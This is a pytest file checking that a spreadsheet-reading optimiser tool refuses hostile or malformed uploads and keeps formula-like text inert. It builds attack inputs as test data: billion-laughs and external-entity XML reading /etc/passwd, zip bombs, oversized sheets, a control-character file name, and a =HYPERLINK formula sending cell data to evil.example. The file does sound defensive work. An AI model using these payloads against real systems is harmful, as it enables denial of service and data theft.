"""Bad and hostile files: each is refused quickly, with a one-line reason, within bounds.

The bounds (optimiser/read.py): 50 MB per file (MAX_FILE_BYTES); 500 MB unpacked and
10,000 parts per zipped workbook (MAX_UNPACKED_BYTES, MAX_PARTS); 100,000 data rows,
1,000 columns and 10 million cells per sheet (MAX_ROWS, MAX_COLUMNS, MAX_CELLS); and
the child process that parses a workbook gets 1 GB of memory and 60 s
(READ_MEMORY_BYTES, READ_TIME_S). XML that declares entities is refused outright.

Every file here is built in the test, in memory: minimal hand-written parts where a
library would refuse to write something so broken.
"""

from __future__ import annotations

import csv
import io
import json
import resource
import time
import zipfile
from collections.abc import Mapping

import openpyxl
import pytest
from conftest_reading import VALID, sheets_from_tables, write_xlsx

from optimiser import InvalidInput, read_workbook, validate
from optimiser import read as reading
from optimiser.problems import Severity

QUICKLY_S = 15.0  # generous for a loaded CI machine; most refusals take well under a second
PARENT_GROWTH_BYTES = 200 * 1024 * 1024  # the tool's own memory may not grow by more than this


# --------------------------------------------------------------------------- minimal files

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsx(sheets: Mapping[str, bytes], extra: Mapping[str, bytes] | None = None,
         workbook_prolog: bytes = b"") -> bytes:
    """A minimal .xlsx: ``sheets`` maps a title to the inside of its ``<sheetData>`` (or to
    a whole part when it starts with ``<?xml``); ``extra`` adds or replaces parts."""
    entries = "".join(
        f'<sheet name="{title}" sheetId="{i}" r:id="rId{i}"/>' for i, title in enumerate(sheets, start=1)
    )
    relations = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE_RELS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>"
        ).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
            f'<Relationship Id="rId1" Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/workbook.xml": b'<?xml version="1.0" encoding="UTF-8"?>' + workbook_prolog + (
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}"><sheets>{entries}</sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{relations}</Relationships>'
        ).encode(),
    }
    for i, data in enumerate(sheets.values(), start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = data if data.startswith(b"<?xml") else (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>'.encode()
            + data + b"</sheetData></worksheet>"
        )
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def text_cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


HEADER_ROW = b'<row r="1">' + text_cell("A1", "mission_id") + b"</row>"

LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
EXTERNAL = b'<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


def with_doctype(doctype: bytes, entity: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype
        + f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&{entity};'
          "</t></is></c></row></sheetData></worksheet>".encode()
    )


def ods(content_body: str) -> bytes:
    """A minimal OpenDocument spreadsheet with one table named Missions."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="Missions">{content_body}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", ODS_MANIFEST, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


ODS_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)


ODS_NUMBER = (
    '<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
)


@pytest.fixture(scope="module")
def good_xlsx(tmp_path_factory) -> bytes:
    path = write_xlsx(tmp_path_factory.mktemp("good") / "good.xlsx", sheets_from_tables(VALID))
    return path.read_bytes()


# --------------------------------------------------------------------------- the promise


def refused(data: bytes | Mapping[str, bytes], name: str = "upload.xlsx") -> str:
    """The one-line reason a source is refused, checking time and the tool's own memory."""
    grown_from = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as caught:
        read_workbook(data, name=name)
    seconds = time.perf_counter() - started
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - grown_from
    (problem,) = caught.value.problems
    assert problem.sheet == "file" and problem.severity is Severity.ERROR
    assert "\n" not in problem.message and "Traceback" not in problem.message
    assert seconds < QUICKLY_S, f"{seconds:.1f} s to refuse: {problem.message}"
    assert grown < PARENT_GROWTH_BYTES, f"the tool grew by {grown / 1e6:.0f} MB: {problem.message}"
    return problem.message


def test_a_good_workbook_reads(good_xlsx):
    assert validate(read_workbook(good_xlsx, name="good.xlsx")).missions.index.tolist() == ["M1", "M2", "M3"]


# --------------------------------------------------------------------------- not a workbook at all


def _zip(entries: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


NOT_WORKBOOKS = {
    "text": ("budget.xlsx", b"mission_id,zone_id\nM1,Z1\n", "budget.xlsx is not a workbook; expected .xlsx"),
    "png": ("chart.png", b"\x89PNG\r\n\x1a\n" + bytes(200), "chart.png is not a workbook"),
    "empty": ("budget.xlsx", b"", "budget.xlsx is empty"),
    "html saved as xls": (
        "export.xls", b"<html><body><table><tr><td>mission_id</td></tr></table></body></html>",
        "export.xls is a web page (HTML) saved under a workbook",
    ),
    "pdf": ("plan.xlsx", b"%PDF-1.7\n" + bytes(100), "plan.xlsx is not a workbook"),
    "zip of photos": (
        "photos.zip", _zip({"a.jpg": b"\xff\xd8\xff"}), "photos.zip is a zip archive but not a workbook"
    ),
    "word document": ("letter.xlsx", _zip({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}),
                      "letter.xlsx is a zip archive but not a workbook"),
    "ole garbage": (
        "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old.xls could not be read as xls: "
    ),
    "broken xml": ("broken.xlsx", _zip({"xl/workbook.xml": b"<not xml", "[Content_Types].xml": b"<Types/>"}),
                   "broken.xlsx could not be read as xlsx: "),
}


@pytest.mark.parametrize(("name", "data", "reason"), NOT_WORKBOOKS.values(), ids=NOT_WORKBOOKS.keys())
def test_files_that_are_not_workbooks_are_refused_with_one_line(name, data, reason):
    assert refused(data, name).startswith(reason)


@pytest.mark.parametrize("keep", [0.1, 0.5, 0.9, 0.99])
def test_a_truncated_workbook_is_refused_as_damaged(good_xlsx, keep):
    message = refused(good_xlsx[: int(len(good_xlsx) * keep)], "cut.xlsx")
    assert message.startswith("cut.xlsx is damaged (a truncated or corrupt zip); save it again")


def test_a_really_password_protected_workbook_is_refused(good_xlsx):
    """Encrypted as Excel does (Agile encryption in an OLE container), by msoffcrypto-tool."""
    from msoffcrypto.format.ooxml import OOXMLFile

    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(good_xlsx)).encrypt("s3cret", locked)
    assert locked.getvalue().startswith(b"\xd0\xcf\x11\xe0")
    assert refused(locked.getvalue(), "locked.xlsx") == (
        "locked.xlsx is password-protected; save a copy without a password"
    )


def test_a_file_name_cannot_break_the_message_over_lines():
    message = refused(b"not a workbook", "evil\nname\u202e.xlsx")
    assert "\n" not in message and "\u202e" not in message
    assert message.startswith("evil\\nname\\u202e.xlsx is not a workbook")


# --------------------------------------------------------------------------- zip bombs


def test_a_zip_bomb_is_refused_from_its_declared_size_without_unpacking():
    """528 MB of spaces deflate to half a megabyte; the 500 MB bound refuses it unread."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            chunk = b" " * (16 * 1024 * 1024)
            for _ in range(33):
                part.write(chunk)
    bomb = buffer.getvalue()
    assert len(bomb) < 5 * 1024 * 1024
    message = refused(bomb, "bomb.xlsx")
    assert message == "bomb.xlsx unpacks to 553.6 MB; the most this tool reads is 524.3 MB"


def test_the_unpacked_bound_counts_every_part(monkeypatch, good_xlsx):
    monkeypatch.setattr(reading, "MAX_UNPACKED_BYTES", 2_000)
    assert "unpacks to" in refused(good_xlsx, "small.xlsx")


def test_a_part_that_inflates_past_its_declared_size_is_refused_as_damaged():
    """The zip readers stop at each part's declared size, so the declared total is a true bound."""
    honest = xlsx({"Missions": HEADER_ROW + b" " * 2_000_000})
    lying = bytearray(honest)
    name = b"xl/worksheets/sheet1.xml"
    at = lying.find(name)
    while at >= 0:
        for signature, offset, size_field in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
            start = at - offset
            if start >= 0 and lying[start:start + 4] == signature:
                lying[start + size_field:start + size_field + 4] = (1_000).to_bytes(4, "little")
        at = lying.find(name, at + 1)
    assert "is damaged" in refused(bytes(lying), "liar.xlsx")


def test_a_zip_of_too_many_parts_is_refused():
    parts = {f"xl/media/image{i}.png": b"" for i in range(reading.MAX_PARTS + 1)}
    message = refused(xlsx({"Missions": HEADER_ROW}, extra=parts), "many.xlsx")
    assert message.startswith("many.xlsx is a zip of 10,0")


# --------------------------------------------------------------------------- sheets too large


def test_one_value_at_the_far_corner_of_a_sheet_cannot_exhaust_memory():
    """1.5 KB: a value in A1 and one in XFD1048576. calamine lays the sheet out densely
    (17 billion cells); the allocation fails in the child process, never in the tool."""
    corner = HEADER_ROW + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    data = xlsx({"Missions": corner})
    assert len(data) < 2_000
    message = refused(data, "corner.xlsx")
    assert message.startswith("corner.xlsx needs more than 1 GB of memory to read")


def test_a_sheet_with_a_million_rows_is_refused():
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r) for r in range(2, 1_048_577))
    message = refused(xlsx({"Missions": HEADER_ROW + rows}), "million.xlsx")
    assert message == "sheet Missions has 1,048,576 rows; the most this tool reads is 100,000 per sheet"


def test_a_sheet_with_16384_columns_is_refused():
    cells = b"".join(b'<c r="%s1"><v>1</v></c>' % openpyxl.utils.get_column_letter(c).encode()
                     for c in range(2, 16_385))
    message = refused(xlsx({"Missions": b'<row r="1">' + text_cell("A1", "mission_id") + cells + b"</row>"}),
                      "wide.xlsx")
    assert message.startswith("sheet Missions has 16,384 columns (up to column XFD); the most this tool "
                              "reads is 1,000 per sheet")


def test_a_sheet_whose_area_is_too_many_cells_is_refused():
    far = HEADER_ROW + b'<row r="20000"><c r="ALL20000"><v>1</v></c></row>'  # 20,000 x 1,000
    message = refused(xlsx({"Missions": far}), "area.xlsx")
    assert message.startswith("sheet Missions spans 20,000 rows by 1,000 columns (20,000,000 cells); the "
                              "most this tool reads is 10,000,000 cells")


def test_only_the_sheets_the_tool_reads_are_parsed():
    """A huge sheet the tool ignores (Notes) is never laid out, so it cannot be refused."""
    corner = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    raw = read_workbook(xlsx({"Missions": HEADER_ROW, "Notes": corner}), name="notes.xlsx")
    assert [p.sheet for p in raw.problems if p.sheet == "Notes"] == ["Notes"]  # an extra-sheet warning


def test_the_memory_bound_is_the_childs(monkeypatch):
    """With 200 MB, a 100,000 x 100 sheet area (10 million cells) no longer fits."""
    monkeypatch.setattr(reading, "READ_MEMORY_BYTES", 200 * 1024 * 1024)
    far = HEADER_ROW + b'<row r="100000"><c r="CV100000"><v>1</v></c></row>'
    assert "needs more than 0.195 GB of memory" in refused(xlsx({"Missions": far}), "tight.xlsx")


def test_the_time_bound_stops_a_slow_parse(monkeypatch):
    monkeypatch.setattr(reading, "READ_TIME_S", 0.05)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r) for r in range(2, 90_000))
    assert "took more than 0.05 s to read" in refused(xlsx({"Missions": HEADER_ROW + rows}), "slow.xlsx")


def test_an_ods_with_repeated_rows_is_refused():
    """1 KB of OpenDocument that repeats a row a million times."""
    data = ods(f'<table:table-row table:number-rows-repeated="1048576">{ODS_NUMBER}</table:table-row>')
    assert len(data) < 2_000
    assert refused(data, "repeat.ods").startswith("sheet Missions has 1,048,576 rows")


def test_an_ods_with_repeated_columns_is_refused():
    data = ods('<table:table-row><table:table-cell table:number-columns-repeated="16384" '
               'office:value-type="float" office:value="1"/></table:table-row>')
    assert refused(data, "repeat.ods").startswith("sheet Missions has 16,384 columns")


# --------------------------------------------------------------------------- CSV too large


def test_a_csv_with_a_million_rows_is_refused_before_it_is_all_held():
    lines = b"mission_id\n" + b"M\n" * 1_000_000
    message = refused({"missions.csv": lines}, "upload")
    assert message == (
        "sheet missions.csv has more than 100,000 rows; the most this tool reads is 100,000 per sheet"
    )


def test_a_csv_with_16384_columns_is_refused():
    message = refused({"missions.csv": b"mission_id" + b",x" * 16_383 + b"\n"}, "upload")
    assert message.startswith("sheet missions.csv has 16,384 columns on line 1")


def test_a_csv_cell_longer_than_the_csv_reader_takes_is_refused():
    message = refused({"missions.csv": b'mission_id\n"' + b"a" * 200_000 + b'"\n'}, "upload")
    assert message.startswith("missions.csv could not be read as CSV (line 2): field larger than field limit")


def test_a_csv_folder_larger_than_the_file_bound_is_refused(monkeypatch):
    monkeypatch.setattr(reading, "MAX_FILE_BYTES", 1_000)
    assert refused({"missions.csv": b"mission_id\n" + b"M1\n" * 500}, "upload").startswith("upload is 1,5")


def test_uploaded_csv_files_must_be_csv_files():
    assert "give only CSV files named after the sheets" in refused({"missions.csv": b"a", "run.exe": b"MZ"},
                                                                   "upload")


# --------------------------------------------------------------------------- XML entities


@pytest.mark.parametrize(
    ("part", "document"),
    [
        ("xl/worksheets/sheet1.xml", with_doctype(LAUGHS, "lol9")),
        ("xl/worksheets/sheet1.xml", with_doctype(EXTERNAL, "secret")),
        ("xl/sharedStrings.xml", b'<?xml version="1.0"?>' + LAUGHS + b'<sst xmlns="' + MAIN.encode()
         + b'"><si><t>&lol9;</t></si></sst>'),
        ("[Content_Types].xml", b'<?xml version="1.0"?>' + EXTERNAL + b"<Types>&secret;</Types>"),
    ],
    ids=["billion laughs in a sheet", "external entity in a sheet", "billion laughs in shared strings",
         "external entity in content types"],
)
def test_xml_that_declares_entities_is_refused_as_unsafe(part, document):
    if part == "xl/worksheets/sheet1.xml":
        data = xlsx({"Missions": document})
    else:
        data = xlsx({"Missions": HEADER_ROW}, extra={part: document})
    message = refused(data, "entities.xlsx")
    assert message == (
        f"entities.xlsx declares XML entities (<!DOCTYPE> in {part}), which spreadsheet programs never "
        "write; it is refused as unsafe"
    )
    assert "root:" not in message  # nothing of /etc/passwd


def test_entities_in_the_workbook_part_are_refused():
    data = xlsx({"Missions": HEADER_ROW}, workbook_prolog=LAUGHS)
    assert "<!DOCTYPE> in xl/workbook.xml" in refused(data, "entities.xlsx")


def test_a_declaration_hidden_behind_a_long_comment_is_still_never_expanded():
    """Past the 64 KB this tool looks at, the parsers themselves refuse the entity."""
    padding = b"<!--" + b" " * 70_000 + b"-->"
    document = with_doctype(padding + LAUGHS, "lol9")
    message = refused(xlsx({"Missions": document}), "hidden.xlsx")
    assert message.startswith("hidden.xlsx: sheet Missions could not be read: ")
    assert "entity" in message


def test_an_ods_with_entities_is_refused():
    content = ('<?xml version="1.0" encoding="UTF-8"?>' + EXTERNAL.decode()
               + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
               "&secret;</office:document-content>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    assert "declares XML entities (<!DOCTYPE> in content.xml)" in refused(buffer.getvalue(), "x.ods")


def test_openpyxl_parses_with_defusedxml(tmp_path):
    """openpyxl (templates, reports, tests) uses defusedxml when it is installed, as it is
    here: a billion-laughs workbook makes it raise instead of expanding."""
    import defusedxml
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML is True
    path = tmp_path / "laughs.xlsx"
    path.write_bytes(xlsx({"Missions": with_doctype(LAUGHS, "lol9")}))
    with pytest.raises(ValueError) as caught:  # openpyxl wraps the parser's refusal
        openpyxl.load_workbook(path)
    chain, error = [], caught.value
    while error is not None:
        chain.append(error)
        error = error.__cause__ or error.__context__
    assert any(isinstance(e, defusedxml.EntitiesForbidden) for e in chain), chain


# --------------------------------------------------------------------------- still working


def test_after_every_hostile_file_the_tool_still_reads_and_plans(good_xlsx):
    from optimiser import optimise

    portfolio = validate(read_workbook(good_xlsx, name="good.xlsx"))
    plan = optimise(portfolio, portfolio.levers.changed(integer=False))
    assert plan.has_plan


def test_the_child_reader_writes_no_file(tmp_path, good_xlsx):
    """The child runs with RLIMIT_FSIZE 0: it can read, never write (checked from inside)."""
    import subprocess
    import sys

    script = (
        "import resource, sys; sys.path.insert(0, sys.argv[1]); import read_sandbox as s;"
        "s._limit_resources(1 << 30, 10);"
        "print(resource.getrlimit(resource.RLIMIT_FSIZE)[0], resource.getrlimit(resource.RLIMIT_AS)[0])"
    )
    folder = str(reading._SANDBOX.parent)
    out = subprocess.run(
        [sys.executable, "-I", "-c", script, folder], capture_output=True, text=True, check=True
    )
    assert out.stdout.split() == ["0", str(1 << 30)]


# --------------------------------------------------------------------------- nothing lost, nothing changed

LOOKS_LIKE_A_FORMULA = {
    "M1": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "M2": "+1+1",
    "M3": "-2+3",
}
LOOKS_LIKE_SOMETHING_ELSE = {"@SUM(A1)": "Z2", "#REF!": "Z1", "TRUE": "Z1", "007": "Z2", "1e5": "Z1"}


def _text_workbook() -> bytes:
    """The small portfolio as .xlsx, every name and id typed as text (as Excel stores a
    cell typed with a leading apostrophe), some looking like formulas, errors, booleans
    or numbers."""
    sheets = sheets_from_tables(VALID)
    for row in sheets["Missions"][1:]:
        row[1] = LOOKS_LIKE_A_FORMULA[row[0]]
    for number, (mission_id, zone) in enumerate(LOOKS_LIKE_SOMETHING_ELSE.items(), start=1):
        running_cost = 10 * number
        sheets["Missions"].append(
            [mission_id, f"@name {number}", zone, "monitoring", 4, None, None, None, None, running_cost]
        )
    sheets["Settings"].append(["integer", "no"])
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is not None:
                    cell = sheet.cell(r, c, value)
                    if isinstance(value, str):
                        cell.data_type = "s"  # text, even when it starts with '='
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_text_that_looks_like_a_formula_stays_text_from_input_to_report_json_and_csv(tmp_path):
    from optimiser import optimise, write_json, write_report
    from optimiser.explore.sheets import csv_bytes

    portfolio = validate(read_workbook(_text_workbook(), name="texts.xlsx"))
    names = dict(zip(portfolio.missions.index, portfolio.missions["name"], strict=True))
    assert {k: names[k] for k in LOOKS_LIKE_A_FORMULA} == LOOKS_LIKE_A_FORMULA  # read as typed
    assert set(LOOKS_LIKE_SOMETHING_ELSE) <= set(names)  # ids kept as text: '007', '1e5', '#REF!'
    plan = optimise(portfolio)
    report = write_report(plan, tmp_path / "report.xlsx")

    with zipfile.ZipFile(report) as archive:
        xml = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in part or b"<f " in part for part in xml)  # no formula anywhere
    book = openpyxl.load_workbook(report)
    texts = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts.setdefault(cell.value, []).append(cell)
    for text in [*LOOKS_LIKE_A_FORMULA.values(), "@name 1", "#REF!", "007", "1e5"]:
        assert text in texts, text
        assert all(c.data_type == "s" for c in texts[text]), text
        if text[0] in "=+-@" or text == "#REF!":
            assert all(c.quotePrefix for c in texts[text]), text

    result = json.loads(write_json(plan, tmp_path / "plan.json").read_text(encoding="utf-8"))
    assert {m["name"] for m in result["missions"]} >= set(LOOKS_LIKE_A_FORMULA.values())

    exported = csv_bytes(plan.missions[["mission_id", "name"]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    shown = {row[0]: row[1] for row in rows[1:]}
    assert shown["M1"] == "'" + LOOKS_LIKE_A_FORMULA["M1"] and shown["M2"] == "'+1+1"
    assert shown["M3"] == "'-2+3"


def test_an_interrupted_report_run_never_leaves_a_half_written_report(tmp_path, good_xlsx):
    """A run killed (SIGKILL, no clean-up) while it rewrites a report, again and again:
    the report on disk is always a whole workbook, the old one or the new one."""
    import signal
    import subprocess
    import sys

    from optimiser import optimise, write_report

    source = tmp_path / "portfolio.xlsx"
    source.write_bytes(good_xlsx)
    target = tmp_path / "report.xlsx"
    portfolio = validate(read_workbook(source))
    write_report(optimise(portfolio, portfolio.levers.changed(integer=False)), target)
    script = (
        "import sys; from optimiser import load_portfolio, optimise, write_report\n"
        "p = load_portfolio(sys.argv[1]); plan = optimise(p, p.levers.changed(integer=False))\n"
        "print('ready', flush=True)\n"
        "while True: write_report(plan, sys.argv[2])\n"
    )
    for delay in (0.05, 0.2, 0.45):
        writer = subprocess.Popen([sys.executable, "-c", script, str(source), str(target)],
                                  stdout=subprocess.PIPE, text=True)
        assert writer.stdout is not None and writer.stdout.readline().strip() == "ready"
        time.sleep(delay)
        writer.send_signal(signal.SIGKILL)
        writer.wait(timeout=30)
        book = openpyxl.load_workbook(target)  # whole, whatever moment the kill came
        assert book.sheetnames[0] == "Summary"
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".report.xlsx.")]
    assert all(name.endswith(".tmp") for name in leftovers)  # at most a hidden temporary, never the report
